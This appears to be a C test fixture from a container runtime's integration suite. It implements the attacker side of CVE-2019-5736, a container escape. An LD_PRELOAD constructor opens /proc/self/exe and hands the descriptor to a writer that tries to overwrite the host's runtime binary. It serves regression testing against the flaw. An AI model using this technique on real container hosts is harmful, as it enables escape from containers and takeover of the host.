/* libsprout-cve5736.so: the attacker's half of CVE-2019-5736, for
 * tests/integration/cve.sh.  Preloaded (LD_PRELOAD from the container's
 * config) into the runtime binary that an entrypoint "#!/proc/self/exe"
 * makes the kernel execute inside the container.  Before the runtime's
 * main() runs, it keeps an O_PATH fd on /proc/self/exe (the binary this
 * process executes) and replaces itself with the static writer, which
 * tries to reopen that fd for writing once nobody executes the binary.
 * Not part of sprout: a test fixture that attacks it. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
  const char *result = getenv("CVE_RESULT");
  const char *writer = getenv("CVE_WRITER");
  if (!result || !writer)
    return;
  unsetenv("LD_PRELOAD"); /* the writer is static; keep it clean anyway */
  int fd = open("/proc/self/exe", O_PATH); /* no O_CLOEXEC: the writer needs it */
  char num[16], exe[256] = "";
  ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
  if (n > 0)
    exe[n] = '\0';
  snprintf(num, sizeof num, "%d", fd);
  char *argv[] = {(char *)writer, "write-exe", num, (char *)result, exe, NULL};
  execv(writer, argv);
  _exit(111);
}
